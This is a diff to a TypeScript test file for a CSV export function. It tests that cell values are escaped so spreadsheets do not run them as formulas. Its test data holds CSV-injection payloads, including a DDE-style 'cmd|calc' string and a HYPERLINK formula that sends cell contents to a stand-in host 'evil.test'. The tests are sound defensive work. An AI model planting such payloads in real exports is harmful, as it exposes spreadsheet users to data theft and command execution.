@@ -1,4 +1,5 @@
 import type { CsvValue } from '@petcare/contracts/lists.ts';
+import fc from 'fast-check';
 import { expect, test } from 'vitest';
 import { readCsv } from '../testing/read-csv.ts';
 import { writeCsv } from './write-csv.ts';
@@ -7,11 +8,19 @@ async function* rowsOf<Row>(...batches: Row[][]) {
   yield* batches;
 }
 
-async function cellsOf(values: readonly CsvValue[]): Promise<(string | undefined)[]> {
-  const column = { key: 'cell', heading: 'cell', cell: (value: CsvValue) => value };
+async function fileOf(rows: CsvValue[][]): Promise<string> {
+  const columns = (rows[0] ?? []).map((_, index) => ({
+    key: `${index}`,
+    heading: `${index}`,
+    cell: (row: CsvValue[]) => row[index],
+  }));
   const pieces: string[] = [];
-  for await (const piece of writeCsv([column], rowsOf([...values]))) pieces.push(piece);
-  return readCsv(pieces.join(''))
+  for await (const piece of writeCsv(columns, rowsOf(rows))) pieces.push(piece);
+  return pieces.join('');
+}
+
+async function cellsOf(values: readonly CsvValue[]): Promise<(string | undefined)[]> {
+  return readCsv(await fileOf(values.map((value) => [value])))
     .slice(1)
     .map(([cell]) => cell);
 }
@@ -23,9 +32,6 @@ const formulas = [
   '-1',
   '-2+3+cmd|calc',
   '=HYPERLINK("http://evil.test?x="&A1,"see")',
-  '\t=1+1',
-  '\r=1+1',
-  '\n=1+1',
   '  =1+1',
   '\u{200b}=1+1',
   '\u{feff}@SUM(1)',
@@ -37,6 +43,39 @@ const formulas = [
 
 test.each(formulas)('a spreadsheet does not read %j as a formula', async (formula) => {
   expect(await cellsOf([formula])).toEqual([`'${formula}`]);
+});
+
+test.each([
+  ['\t=1+1', "'\t'=1+1"],
+  ['\r=1+1', "'\r'=1+1"],
+  ['\n=1+1', "'\n'=1+1"],
+  ['"=1+1', `'"=1+1`],
+  ['Tuni;=1+1', "Tuni;'=1+1"],
+  ['Tuni; "@SUM(1)', `Tuni; "'@SUM(1)`],
+  ['Tuni\t-1', "Tuni\t'-1"],
+  ['Tuni\r\n+1', "Tuni\r\n'+1"],
+  ['Tuni|\u{200b}=1', "Tuni|\u{200b}'=1"],
+  ['a;b\tc\nd - e', 'a;b\tc\nd - e'],
+])('%j is written as %j', async (text, written) => {
+  expect(await cellsOf([text])).toEqual([written]);
+});
+
+test('a spreadsheet set to any separator finds no formula', async () => {
+  const character = fc.constantFrom(...';\t|\n\r"=+-@＝,a \u{200b}');
+  const cell = fc.string({ unit: character, maxLength: 8 });
+  await fc.assert(
+    fc.asyncProperty(fc.array(fc.tuple(cell, cell), { minLength: 1, maxLength: 3 }), async (rows) => {
+      const file = await fileOf(rows);
+      const found = [
+        ...readCsv(file).flat(),
+        // A separator that the file does not use: quotes inside a field have no effect there.
+        ...[';', '\t', '|'].flatMap((separator) =>
+          file.split(/[\r\n]/).flatMap((row) => row.split(separator)),
+        ),
+      ];
+      expect(found.filter((field) => /^["\s\p{C}]*[=+\-@＝]/u.test(field ?? ''))).toEqual([]);
+    }),
+  );
 });
 
 test('unescaped text is read as a formula by a spreadsheet', () => {
